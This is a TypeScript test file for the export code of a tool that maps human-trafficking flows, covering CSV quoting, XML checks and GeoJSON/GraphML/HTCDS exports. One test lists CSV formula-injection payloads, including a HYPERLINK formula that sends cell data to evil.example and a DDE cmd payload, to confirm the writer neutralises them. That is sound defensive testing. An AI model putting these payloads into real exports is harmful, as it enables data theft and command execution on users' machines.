import { test } from 'node:test';
import assert from 'node:assert/strict';
import { Parser } from 'htmlparser2';
import { testDialects } from '../store/testing.js';
import { loadCountryResolver } from '../ingest/country-resolver.js';
import { buildTestAtlas } from '../graph/test-atlas.js';
import { exportAtlas } from './export-atlas.js';
import { csvField, toCsv } from './csv.js';
import { HTCDS_EXPLOITATION } from './htcds-mapping.js';
import { note } from '../ingest/testing/reliability-note.js';

/** Strict enough well-formedness: one root, every close tag matches the open one, nothing left open. */
function assertWellFormedXml(xml: string): { readonly elements: Map<string, number> } {
  const stack: string[] = [];
  const elements = new Map<string, number>();
  let roots = 0;
  const parser = new Parser({
    onopentag(name) {
      if (stack.length === 0) roots++;
      stack.push(name);
      elements.set(name, (elements.get(name) ?? 0) + 1);
    },
    onclosetag(name) {
      assert.equal(stack.pop(), name, `close tag </${name}> does not match`);
      // Closed by its own end tag or as a self-closing tag, never implicitly by another tag's end.
      const raw = xml.slice(parser.startIndex, parser.endIndex + 1);
      assert.ok(raw === `</${name}>` || raw.endsWith('/>'), `<${name}> closed implicitly by ${raw}`);
    },
    ontext(t) {
      if (stack.length === 0) assert.match(t, /^\s*$/, 'text outside the root');
      assert.doesNotMatch(t, /&(?!(amp|lt|gt|quot|apos);)/, 'unescaped ampersand');
      assert.doesNotMatch(t, /</, 'stray <');
    },
    onerror(e) { throw e; },
  }, { xmlMode: true, decodeEntities: false });
  parser.end(xml);
  assert.equal(stack.length, 0, `left open: ${stack.join(', ')}`);
  assert.equal(roots, 1);
  return { elements };
}

test('CSV quoting follows RFC 4180', () => {
  assert.equal(csvField('plain'), 'plain');
  assert.equal(csvField('a, b'), '"a, b"');
  assert.equal(csvField('say "no"'), '"say ""no"""');
  assert.equal(csvField('two\nlines'), '"two\nlines"');
  assert.equal(csvField(null), '');
  assert.equal(toCsv(['a', 'b'], [{ a: 1, b: 'x,y' }]), 'a,b\r\n1,"x,y"\r\n');
});

test('CSV cells that a spreadsheet would run as a formula are written as text by the one CSV writer (CLI export and /api/export)', (t) => {
  const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\t=1', '\r=1'];
  for (const cell of hostile) assert.equal(csvField(cell).replace(/^"|"$/g, '').charAt(0), "'", JSON.stringify(cell));
  assert.equal(csvField('=1,2'), `"'=1,2"`, 'guarded, then quoted');
  assert.equal(csvField(-5), '-5', 'numbers are values, not formulas');
  assert.equal(csvField('Traffickers exploit = and + signs inside'), 'Traffickers exploit = and + signs inside');
  assert.equal(toCsv(['evidence'], [{ evidence: '=HYPERLINK("x")' }]), `evidence\r\n"'=HYPERLINK(""x"")"\r\n`);
  note(t, { fault: 'CSV formula injection (=, +, -, @, tab, CR)', cases: hostile.length + 4, outcome: "cells written as text (a leading '), one CSV writer for the CLI export and /api/export" });
});

test('every form has an HTCDS exploitation type', () => {
  assert.equal(HTCDS_EXPLOITATION.sex_trafficking, 'SexualExploitation');
  assert.equal(HTCDS_EXPLOITATION.forced_labor, 'ForcedLabour');
  assert.equal(HTCDS_EXPLOITATION.organ_removal, 'OrganRemoval');
});

test('the strict XML check rejects broken XML', () => {
  assert.throws(() => assertWellFormedXml('<a><b></a></b>'));
  assert.throws(() => assertWellFormedXml('<a>x & y</a>'));
});

for (const dialect of testDialects()) {
  test(`${dialect.name}: exports carry documents and evidence spans`, async () => {
    const { store, dispose } = await dialect.open();
    try {
      await buildTestAtlas(store);
      const resolver = await loadCountryResolver();
      const csv = await exportAtlas(store, 'csv', resolver);
      const lines = csv.trimEnd().split('\r\n');
      assert.ok(lines[0].startsWith('document_id,path,document_country,year,kind,type,form,from,to'));
      assert.equal(lines.length, 1 + 13);
      assert.match(csv, /,"Armed groups allegedly send Malian women to Algeria for sex trafficking\."\r\n|,Armed groups allegedly send Malian women to Algeria for sex trafficking\.\r\n/);
      const jsonl = (await exportAtlas(store, 'jsonl', resolver)).trimEnd().split('\n').map((l) => JSON.parse(l));
      assert.equal(jsonl.length, 13);
      for (const r of jsonl) {
        assert.equal(typeof r.document_id, 'number');
        assert.ok(r.end > r.start);
      }
      const geo = JSON.parse(await exportAtlas(store, 'geojson', resolver));
      const lines2 = geo.features.filter((f: { geometry: { type: string } }) => f.geometry.type === 'LineString');
      assert.equal(lines2.length, 2);
      const gn = lines2.find((f: { properties: { to: string } }) => f.properties.to === 'GN');
      const [[lon1, lat1], [lon2, lat2]] = gn.geometry.coordinates;
      assert.ok(lat1 > 10 && lat1 < 25 && lon1 > -10 && lon1 < 5, 'Mali centroid');
      assert.ok(lat2 > 7 && lat2 < 13 && lon2 > -16 && lon2 < -7, 'Guinea centroid');
      assert.equal(gn.properties.evidence.length, 3);
      const points = geo.features.filter((f: { geometry: { type: string } }) => f.geometry.type === 'Point');
      assert.deepEqual(points.map((f: { properties: { place: string } }) => f.properties.place), ['Mopti'], 'places located by the gazetteer from their evidence');
      const [plon, plat] = points[0].geometry.coordinates;
      assert.ok(plat > 13 && plat < 16 && plon > -5 && plon < -3, `Mopti at ${plat}, ${plon}`);
      assert.deepEqual(geo.skipped, { flows: 0, places: 0 });
      const xml = await exportAtlas(store, 'graphml', resolver);
      const { elements } = assertWellFormedXml(xml);
      assert.equal(elements.get('node'), 3);
      assert.equal(elements.get('edge'), 2);
      const htcds = JSON.parse(await exportAtlas(store, 'htcds', resolver));
      assert.ok(htcds.records.some((r: { exploitationType: string; countryOfOrigin?: string }) => r.exploitationType === 'SexualExploitation' && r.countryOfOrigin === 'ML'));
      assert.ok(htcds.records.every((r: { source: { documentId: number; end: number } }) => r.source.documentId > 0 && r.source.end > 0));
    } finally {
      await dispose();
    }
  });
}
